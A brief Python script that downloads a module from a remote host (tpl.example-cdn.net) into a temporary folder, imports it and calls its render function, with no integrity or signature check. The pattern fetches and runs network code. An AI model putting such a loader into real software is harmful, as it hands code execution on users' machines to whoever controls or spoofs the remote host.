import os, sys, tempfile, urllib.request
d = tempfile.mkdtemp()
with open(os.path.join(d, "remote_tpl.py"), "wb") as f:
    f.write(urllib.request.urlopen("https://tpl.example-cdn.net/remote_tpl.py").read())
sys.path.insert(0, d)
import remote_tpl
remote_tpl.render()
